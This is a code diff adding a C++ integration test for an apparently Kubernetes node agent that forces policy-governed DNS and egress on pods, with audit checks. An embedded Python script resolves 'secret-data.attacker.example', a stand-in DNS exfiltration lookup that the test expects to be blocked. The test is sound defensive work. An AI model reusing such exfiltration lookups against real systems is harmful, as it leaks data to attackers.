@@ -160,6 +160,10 @@ class NodeAgentTest : public ::testing::Test {
     std::string script = "exec \"$0\" \"$@\" >>'" + dir_ + "/agent.log' 2>&1";
     if (!in_cgroup.empty()) script = "echo $$ >'" + in_cgroup + "/cgroup.procs' && " + script;
     std::vector<std::string> prefix = {"sh", "-c", script};
+    if (!agent_hosts_.empty()) {
+      script = "mount --bind '" + agent_hosts_ + "' /etc/hosts && " + script;
+      prefix = {"unshare", "-m", "--propagation", "private", "sh", "-c", script};
+    }
     if (with_manifest_caps)
       prefix = {"capsh",
                 "--drop=cap_chown,cap_dac_override,cap_dac_read_search,cap_fowner,cap_fsetid,"
@@ -172,24 +176,29 @@ class NodeAgentTest : public ::testing::Test {
                 "cap_block_suspend,cap_audit_read,cap_checkpoint_restore",
                 "--", "-c", script};
     std::vector<std::string> argv = prefix;
-    std::vector<std::string> rest = {ACP_BINARY,
-                                     "node-agent",
-                                     "--node-name=node-a",
-                                     "--api-server=" + server_->url(),
-                                     "--token-file=" + server_->token_path(),
-                                     "--ca-file=" + server_->ca_path(),
-                                     "--cgroup-root=" + cg_root_,
-                                     "--cgroup-driver=" + driver_flag,
-                                     "--bpffs=" + bpffs_root_,
-                                     "--proxy-listen=127.0.0.1:" + std::to_string(proxy_port_),
-                                     "--policy-dir=" + dir_ + "/policies",
-                                     "--default-policy=" + dir_ + "/default-policy.yml",
-                                     "--audit-log=" + dir_ + "/audit.jsonl",
-                                     "--control-socket=" + dir_ + "/control.sock",
-                                     "--config=" + dir_ + "/config.yml",
-                                     "--metrics-listen=127.0.0.1:" + std::to_string(metrics_port_),
-                                     "--retry-ms=50"};
+    std::vector<std::string> rest = {
+        ACP_BINARY,
+        "node-agent",
+        "--node-name=node-a",
+        "--api-server=" + server_->url(),
+        "--token-file=" + server_->token_path(),
+        "--ca-file=" + server_->ca_path(),
+        "--cgroup-root=" + cg_root_,
+        "--cgroup-driver=" + driver_flag,
+        "--bpffs=" + bpffs_root_,
+        "--proxy-listen=" + proxy_host_ + ":" + std::to_string(proxy_port_),
+        "--policy-dir=" + dir_ + "/policies",
+        "--default-policy=" + dir_ + "/default-policy.yml",
+        "--audit-log=" + dir_ + "/audit.jsonl",
+        "--control-socket=" + dir_ + "/control.sock",
+        "--config=" + dir_ + "/config.yml",
+        "--metrics-listen=127.0.0.1:" + std::to_string(metrics_port_),
+        "--retry-ms=50"};
     argv.insert(argv.end(), rest.begin(), rest.end());
+    // The wall's own tests see a refused connect() as EPERM: no door, unless a test asks.
+    if (std::find_if(extra.begin(), extra.end(),
+                     [](const std::string& a) { return a.rfind("--door", 0) == 0; }) == extra.end())
+      argv.push_back("--door=proxy");
     argv.insert(argv.end(), extra.begin(), extra.end());
     agent_ = Proc::start(argv);
     ASSERT_GT(agent_.pid, 0);
@@ -310,6 +319,10 @@ class NodeAgentTest : public ::testing::Test {
   std::unique_ptr<FakeApiServer> server_;
   std::unique_ptr<Responder> responder_;
   uint16_t origin_port_ = 0, proxy_port_ = 0, metrics_port_ = 0;
+  std::string proxy_host_ = "127.0.0.1";  // where the node proxy listens (the pods' node address)
+  // Set: the agent runs in a mount namespace of its own where this file is /etc/hosts (names
+  // only its resolver knows).
+  std::string agent_hosts_;
   Proc agent_;
 };
 
@@ -726,6 +739,151 @@ TEST_F(NodeAgentTest, MirrorClaimsOpenStaticPodsAndNeverUnwallAnother) {
   EXPECT_EQ(direct(victim_cg), "EPERM");
   EXPECT_EQ(metric("acp_node_pods_confined"), 1);
   EXPECT_EQ(via_proxy(victim_cg, victim.ip), "200");
+}
+
+// The transparent door for pods (issue 16, docs/node-agent.md): a pod in a network namespace of
+// its own, its processes in the pod's cgroup, with no proxy settings at all. Its lookups are
+// answered by its policy from the node (no query leaves: the node's resolver is the agent's
+// private /etc/hosts, which only the proxy reads); a connection to the name it looked up is
+// judged as that name, with its policy, and reaches the origin the proxy resolves; one to a
+// literal address the policy does not allow gets ACP's refusal. Node's fetch, which ignores
+// HTTPS_PROXY, works. Every decision is audited under the pod's name.
+TEST_F(NodeAgentTest, APodWithoutProxySettingsIsLedThroughItsDoorAndItsDnsIsThePolicys) {
+  auto pod_net = NetnsHost::create();
+  ASSERT_TRUE(pod_net.ok()) << pod_net.error().message();
+  auto origin_net = NetnsHost::create();
+  ASSERT_TRUE(origin_net.ok()) << origin_net.error().message();
+  const std::string pod_ns = (*pod_net)->name();
+  auto origin = (*origin_net)->bind(SOCK_STREAM, (*origin_net)->addr4());
+  ASSERT_TRUE(origin.ok()) << origin.error().message();
+  const std::string port = std::to_string(origin->port);
+  responder_->serve(std::move(*origin));
+  // Inside the pod (ip netns exec bind-mounts these): a cluster DNS address nobody serves.
+  const std::string etc = "/etc/netns/" + pod_ns;
+  ASSERT_EQ(std::system(("mkdir -p " + etc).c_str()), 0);
+  struct EtcNetns {
+    std::string dir;
+    ~EtcNetns() { (void)std::system(("rm -rf '" + dir + "'").c_str()); }
+  } etc_cleanup{etc};
+  std::ofstream(etc + "/resolv.conf") << "nameserver 10.96.0.10\noptions timeout:2 attempts:2\n";
+  std::ofstream(etc + "/hosts") << "127.0.0.1 localhost\n";
+  write_file("agent-hosts",
+             "127.0.0.1 localhost\n" + (*origin_net)->addr4() + " api.allowed.test\n");
+  agent_hosts_ = dir_ + "/agent-hosts";
+  write_file("policies/door.yml",
+             "default: deny\nrules:\n"
+             "  - match: { kind: http, host: \"api.allowed.test\" }\n    action: allow\n");
+  proxy_host_ = (*pod_net)->host_addr4();  // the node address the pod reaches
+  start_agent("cgroupfs", false, "", {"--door=both"});
+  ASSERT_TRUE(eventually([&] { return ready(); })) << agent_log();
+
+  const std::string uid = "d00d0000-0000-4000-8000-000000000001";
+  server_->add(spec(uid, "agent", "BestEffort", (*pod_net)->addr4(), true, "door.yml"));
+  const std::string cg = make_pod_cgroup(CgroupDriver::Cgroupfs, QosClass::BestEffort, uid);
+  ASSERT_TRUE(eventually([&] { return pinned(uid) && metric("acp_node_pods_confined") == 1; }))
+      << agent_log();
+
+  const std::string py =
+      "import socket, sys, urllib.request, urllib.error\n"
+      "port = int(sys.argv[1]); origin_ip = sys.argv[2]\n"
+      "ip = socket.gethostbyname('api.allowed.test')\n"
+      "print('LOOKUP ' + ip)\n"
+      "try:\n"
+      "    socket.gethostbyname('secret-data.attacker.example')\n"
+      "    print('SECRET resolved')\n"
+      "except socket.gaierror as e:\n"
+      "    print('SECRET %s' % ('NXDOMAIN' if e.errno == socket.EAI_NONAME else e))\n"
+      "c = socket.create_connection(('api.allowed.test', port), timeout=10)\n"
+      "print('PEER %s:%d' % c.getpeername())\n"
+      "c.close()\n"
+      "o = urllib.request.build_opener(urllib.request.ProxyHandler({}))\n"
+      "print('NAMED ' + o.open('http://api.allowed.test:%d/' % port, "
+      "timeout=20).read().decode().strip())\n"
+      "try:\n"
+      "    o.open('http://%s:%d/' % (origin_ip, port), timeout=20)\n"
+      "    print('ADDRESS reached')\n"
+      "except urllib.error.HTTPError as e:\n"
+      "    print('ADDRESS %d' % e.code)\n";
+  Proc p = run_in(
+      cg, {"ip", "netns", "exec", pod_ns, "python3", "-c", py, port, (*origin_net)->addr4()});
+  EXPECT_NE(p.out.find("LOOKUP 198.18."), std::string::npos) << p.out << agent_log();
+  EXPECT_NE(p.out.find("SECRET NXDOMAIN"), std::string::npos) << p.out;
+  // The agent sees where it connected, not the node's door.
+  EXPECT_NE(p.out.find("PEER 198.18."), std::string::npos) << p.out;
+  EXPECT_NE(p.out.find("NAMED ok"), std::string::npos) << p.out << agent_log();
+  EXPECT_NE(p.out.find("ADDRESS 403"), std::string::npos) << p.out;
+
+  // Node's fetch ignores HTTPS_PROXY: led in all the same.
+  Proc n = run_in(cg, {"ip", "netns", "exec", pod_ns, "node", "-e",
+                       "fetch('http://api.allowed.test:' + process.argv[1] + '/')"
+                       ".then(r => r.text()).then(t => console.log('FETCH ' + t.trim()))"
+                       ".catch(e => console.log('FETCH failed ' + e.cause))",
+                       port});
+  EXPECT_NE(n.out.find("FETCH ok"), std::string::npos) << n.out;
+
+  // Audited under the pod's name: the name allowed, the bare address denied, both led in.
+  int allowed = 0, denied = 0;
+  for (const auto& e : audit()) {
+    if (e.value("kind", "") != "request" || e.value("session", "") != "default/agent") continue;
+    const auto& a = e["action"];
+    if (a.value("via", "") != "transparent") continue;
+    if (a.value("host", "") == "api.allowed.test" && e.value("verdict", "") == "allow") ++allowed;
+    if (a.value("host", "") == (*origin_net)->addr4() && e.value("verdict", "") == "deny") ++denied;
+  }
+  EXPECT_GE(allowed, 2) << "python and node through the door";
+  EXPECT_EQ(denied, 1);
+  EXPECT_GE(metric("acp_node_door_connections_total"), 4);
+  EXPECT_GE(metric("acp_node_dns_queries_total{outcome=\"nxdomain\"}"), 1);
+
+  // The pod's door is the pod's alone. Its ports, from its wall's config:
+  auto pins = kernel::PinnedSession::open(pin_dir(uid));
+  ASSERT_TRUE(pins.ok()) << pins.error().message();
+  auto wall_cfg = pins->config();
+  ASSERT_TRUE(wall_cfg.ok());
+  ASSERT_NE(wall_cfg->door_port4, 0);
+  ASSERT_NE(wall_cfg->dns_port4, 0);
+  // A process on the node (not the pod) asking the pod's DNS gets no answer, and one that
+  // connects to the pod's door is refused (the pod's wall led nothing of it) and audited.
+  const std::string outsider =
+      "import socket, struct, sys\n"
+      "node, dns, door = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])\n"
+      "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+      "s.settimeout(1.5)\n"
+      "q = struct.pack('>HHHHHH', 1, 0x0100, 1, 0, 0, 0) + b'\\x03api\\x07allowed\\x04test\\0'\n"
+      "s.sendto(q + struct.pack('>HH', 1, 1), (node, dns))\n"
+      "try:\n"
+      "    s.recvfrom(512)\n"
+      "    print('DNS answered')\n"
+      "except socket.timeout:\n"
+      "    print('DNS no reply')\n"
+      "c = socket.create_connection((node, door), timeout=5)\n"
+      "c.sendall(b'GET / HTTP/1.1\\r\\nHost: api.allowed.test\\r\\n\\r\\n')\n"
+      "try:\n"
+      "    print('DOOR ' + c.recv(4096).decode(errors='replace').split('\\r\\n')[0])\n"
+      "except ConnectionResetError:\n"
+      "    print('DOOR reset')\n";
+  Proc o = run({"python3", "-c", outsider, proxy_host_, std::to_string(wall_cfg->dns_port4),
+                std::to_string(wall_cfg->door_port4)});
+  EXPECT_NE(o.out.find("DNS no reply"), std::string::npos) << o.out;
+  // Refused before anything is read: the 403, a close, or a reset when the refusal overtakes
+  // the unread request. Never the origin's answer.
+  EXPECT_NE(o.out.find("DOOR "), std::string::npos) << o.out;
+  EXPECT_EQ(o.out.find("DOOR HTTP/1.1 200"), std::string::npos) << o.out;
+  ASSERT_TRUE(eventually([&] {
+    for (const auto& e : audit())
+      if (e.value("event", "") == "door_refused" && e.value("session", "") == "default/agent")
+        return true;
+    return false;
+  })) << "the refused door connection is audited under the pod's name";
+
+  // UDP other than DNS stays refused.
+  Proc u = run_in(cg, {"ip", "netns", "exec", pod_ns, ACP_VM_CLIENT, "udp-sendto",
+                       (*origin_net)->addr4(), "9999"});
+  EXPECT_NE(u.out.find("result=EPERM"), std::string::npos) << u.out;
+
+  // Released: the door closes with the pod.
+  server_->remove(uid);
+  ASSERT_TRUE(eventually([&] { return !pinned(uid); })) << agent_log();
 }
 
 // The DaemonSet names the agent's own pod through the downward API (POD_UID): that pod is let
